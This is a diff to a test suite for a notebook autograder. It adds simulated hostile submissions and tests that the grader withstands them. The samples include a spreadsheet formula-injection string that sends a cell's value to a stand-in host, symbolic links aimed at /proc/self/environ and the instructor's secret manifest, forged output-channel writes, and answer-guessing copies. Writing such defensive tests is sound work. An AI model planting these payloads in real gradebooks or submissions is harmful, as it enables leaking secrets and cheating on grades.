@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import csv
 import json
+import shutil
 import textwrap
 import time
 from pathlib import Path
@@ -84,7 +85,8 @@ ROSTER = [("full", "Ada Full", "1001"), ("partial", "Bo Partial", "1002"), ("con
           ("absent", "Al Absent", "1006")]
 HOSTILE = ["builtins", "numpy-patch", "closures", "frames", "forged-file", "forged-channel", "setsid-forgery",
            "holds-stdout", "writes-elsewhere", "reads-book", "deleted-checks", "huge-output", "fork-storm",
-           "infinite-loop", "crash", "not-a-notebook", "broken-json", "memorised-cases", "slow-check"]
+           "infinite-loop", "crash", "not-a-notebook", "broken-json", "memorised-cases", "slow-check",
+           "guesser", "linker", "formula-injection", "many-cells"]
 
 
 def hostile_notebooks(secret: str, victim: Path, gradebook: Path) -> dict:
@@ -268,7 +270,35 @@ def hostile_notebooks(secret: str, victim: Path, gradebook: Path) -> dict:
         "slow-check": notebook(f"answer = {EXCESS!r}",
                                'import time\ntime.sleep(60)\ncheck("definitions.excess-bits", answer)'),
         "crash": notebook(*wrong[:2], "import os\nos._exit(3)", *wrong[2:]),
+        "formula-injection": notebook(  # a forged event whose text a spreadsheet would run as a formula
+            """
+            import json, os
+            event = {"kind": "event", "text": '=HYPERLINK("http://example.org/?"&A1, "details")',
+                     "ids": ["definitions.excess-bits"]}
+            for fd in range(3, 40):
+                try:
+                    os.write(fd, (json.dumps(event) + "\\n").encode())
+                except OSError:
+                    pass
+            """, 'check("definitions.excess-bits", answer)'),
     }
+
+
+def hostile_files(subs: Path, manifest: Path) -> None:
+    """The attacks that are files rather than notebooks: one copy per option, symbolic links, a huge notebook."""
+    for i, option in enumerate(["equal", "forward larger", "reverse larger"]):  # one of them is right
+        path = subs / "guesser" / f"attempt{i}.ipynb"
+        path.parent.mkdir(exist_ok=True)
+        nbformat.write(notebook(*answer_cells({"definitions.predict-symmetry": f"answer = {option!r}"})), path)
+    links = subs / "linker"
+    links.mkdir()
+    (links / "classmate.ipynb").symlink_to(subs / "full" / "hw1.ipynb")  # a classmate's right answers
+    (links / "manifest.ipynb").symlink_to(manifest)  # the secret, in an error message?
+    (links / "environ.ipynb").symlink_to("/proc/self/environ")  # the grader's environment
+    cells = [{"cell_type": "code", "id": f"c{i}", "metadata": {}, "source": "pass", "outputs": [],
+              "execution_count": None} for i in range(3000)]
+    raw = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
+    (subs / "many-cells.ipynb").write_text(json.dumps(raw))
 
 
 def student_notebooks(secret: str) -> dict:
@@ -325,6 +355,7 @@ def _setup(tmp: Path, hostile: bool):
         victim = subs / "partial.ipynb"
         for name, nb in hostile_notebooks(data["secret"], victim, tmp / "out" / "grades.csv").items():
             nbformat.write(nb, subs / f"{name}.ipynb")
+        hostile_files(subs, manifest)
         (subs / "not-a-notebook.ipynb").write_bytes(bytes(range(256)) * 4)
         (subs / "broken-json.ipynb").write_text("{ this is not json")
     return manifest, subs
@@ -461,6 +492,46 @@ def test_no_submission_changes_another(hostile_run):
     assert _rows(tmp / "out" / "grades.csv")[0].keys() >= {"student", "exercise", "points", "misconception"}
 
 
+def test_one_copy_per_option_gets_the_lowest_verdict(hostile_run):
+    run, *_ = hostile_run
+    guesser = next(s for s in run.students if s.student == "guesser")
+    row = next(r for r in guesser.rows if r.exercise == "definitions.predict-symmetry")
+    assert not row.passed and row.status == "wrong"
+    assert any("answered in 3 notebooks" in n and "lowest" in n for n in guesser.notes)
+    # a student whose two notebooks answer different exercises keeps both (tested in EXPECTED: twoparts)
+
+
+def test_symbolic_links_are_refused_and_never_quoted(hostile_run):
+    run, tmp, *_ = hostile_run
+    linker = next(s for s in run.students if s.student == "linker")
+    assert linker.points == 0 and sorted(linker.submissions) == ["classmate.ipynb", "environ.ipynb",
+                                                                 "manifest.ipynb"]
+    assert sum("symbolic link" in n for n in linker.notes) == 3, linker.notes
+    secret = json.loads((tmp / "instructor" / "hw1.json").read_text())["secret"]
+    written = [p for p in (tmp / "out").rglob("*") if p.is_file()]
+    for path in written:
+        text = path.read_text(errors="replace")
+        assert secret not in text and "PATH=" not in text and "klcourse_manifest" not in text, path
+
+
+def test_a_huge_notebook_is_refused_before_it_is_parsed(hostile_run):
+    run, *_ = hostile_run
+    notes = " ".join(next(s for s in run.students if s.student == "many-cells").notes)
+    assert "more than 2000 cells" in notes
+
+
+def test_gradebook_cells_never_start_a_spreadsheet_formula(hostile_run):
+    run, tmp, *_ = hostile_run
+    row = next(r for s in run.students if s.student == "formula-injection" for r in s.rows
+               if r.exercise == "definitions.excess-bits")
+    assert row.message.startswith("=HYPERLINK")  # the forged event did reach the message...
+    for name in ("grades.csv", "grades_summary.csv", "grades_canvas.csv"):
+        for line in _rows(tmp / "out" / name):
+            for value in line.values():  # ...but no CSV cell starts a formula
+                assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
+                assert not value.startswith("-") or value.lstrip("-").replace(".", "", 1).isdigit(), (name, value)
+
+
 def test_n_hostile_submissions_finish_within_n_limits(hostile_run):
     run, _, elapsed, _ = hostile_run
     n = len(run.files)
@@ -508,10 +579,8 @@ def test_fallback_without_bwrap_keeps_its_guarantees(tmp_path):
     for f in list(subs.rglob("*.ipynb")):
         if f.stem not in FALLBACK and f.parent == subs and f.stem not in ("partial", "doejane_12345_67890_hw1"):
             f.unlink()
-    for folder in ("full", "twoparts"):
-        for f in (subs / folder).iterdir():
-            f.unlink()
-        (subs / folder).rmdir()
+    for folder in [f for f in subs.iterdir() if f.is_dir()]:
+        shutil.rmtree(folder)
     victim = (subs / "partial.ipynb").read_bytes()
     start = time.monotonic()
     run = grade([subs], tmp_path / "out" / "grades.csv", assignment=manifest, timeout=CELL, limit=LIMIT, jobs=2,
@@ -527,6 +596,28 @@ def test_fallback_without_bwrap_keeps_its_guarantees(tmp_path):
     assert "UNSANDBOXED" in (tmp_path / "out" / "grades_report.html").read_text()
     assert "UNSANDBOXED" in (tmp_path / "out" / "grades_feedback" / "partial.html").read_text()
     (subs / "partial.ipynb").write_bytes(victim)  # whatever happened to it, it was graded from the copy read first
+
+
+# ------------------------------------------------------------------------------------------ without a grading run
+def test_the_notebook_does_not_choose_its_own_time_limit(tmp_path, monkeypatch):
+    """Without --limit, 500 code cells must not buy 500 × the cell timeout."""
+    from klcourse.instructor import grading
+
+    path = tmp_path / "long.ipynb"
+    nb = nbformat.v4.new_notebook()
+    nb.cells = [nbformat.v4.new_code_cell("pass") for _ in range(500)]
+    nbformat.write(nb, path)
+    seen = []
+
+    def fake_run(argv, *, limits, **kwargs):
+        seen.append(limits.wall)
+        return sandbox.RunResult(0, False, {"stdout": b'{"kind": "done"}\n', "stderr": b""})
+
+    monkeypatch.setattr(grading.sandbox, "run", fake_run)
+    grading.run_file(str(path), "someone", {}, cell_timeout=2.0, limit=None, use_sandbox=False)
+    assert seen and seen[0] <= 2.0 * 10 + 30
+    grading.run_file(str(path), "someone", {}, cell_timeout=2.0, limit=7.0, use_sandbox=False)
+    assert seen[1] == 7.0  # the instructor's --limit wins
 
 
 def test_sandbox_memory_outside_the_address_space_limit_is_bounded():
@@ -581,3 +672,38 @@ def test_a_counterexample_cannot_pass_by_overflow():
         warnings.simplefilter("ignore")
         verdict = evaluate("gaussians.equal-mse", ((0.0, 1e100, 0.0, 1e-100), (0.0, 1e100, 0.0, 2e-100)))
     assert not verdict.passed and "nan" not in verdict.message
+
+
+def test_without_a_manifest_one_notebook_cannot_grow_the_class_denominator():
+    from klcourse.exercises import list_exercises
+    from klcourse.instructor.grading import infer_assignment
+
+    def as_loaded(nb):
+        return json.loads(nbformat.writes(nb)), None
+
+    honest = notebook(*answer_cells({"definitions.predict-symmetry": 'answer = "equal"',
+                                     "definitions.excess-bits": "answer = 1.0"}))
+    extra = [e.id for e in list_exercises()][:20]
+    attacker = notebook(*[f'check("{e}", ...)' for e in extra],
+                        metadata={"edition": "student", "exercises": extra})
+    loaded = {"a.ipynb": as_loaded(honest), "b.ipynb": as_loaded(honest), "c.ipynb": as_loaded(honest),
+              "x.ipynb": as_loaded(attacker)}
+    assignment = infer_assignment(list(loaded), loaded=loaded)
+    assert sorted(assignment.exercises) == ["definitions.excess-bits", "definitions.predict-symmetry"]
+
+
+def test_a_file_named_after_a_longer_id_is_not_given_to_its_prefix(tmp_path):
+    from klcourse.instructor.grading import identify
+
+    roster = [{"id": "ann"}, {"id": "ann_lee"}]
+    assert identify(str(tmp_path / "ann_lee_hw1.ipynb"), tmp_path, roster)[0] == "ann_lee"
+    assert identify(str(tmp_path / "ann_hw1.ipynb"), tmp_path, roster)[0] == "ann"
+
+
+def test_the_threat_tables_do_not_promise_that_klcourse_calls_are_always_caught():
+    """uses_klcourse runs in the student's process: a notebook that patches it (or renames a copy of the function)
+    gets credit. The README and the instructors' page must say so, not promise a sentence every time."""
+    page = json.loads((ROOT / "book" / "instructors.ipynb").read_text())
+    texts = ["".join(c["source"]) for c in page["cells"]] + [(ROOT / "README.md").read_text()]
+    rows = [line for text in texts for line in text.splitlines() if '"implement it" exercise |' in line]
+    assert len(rows) == 2 and all("disguised" in row and "gets through" in row for row in rows), rows
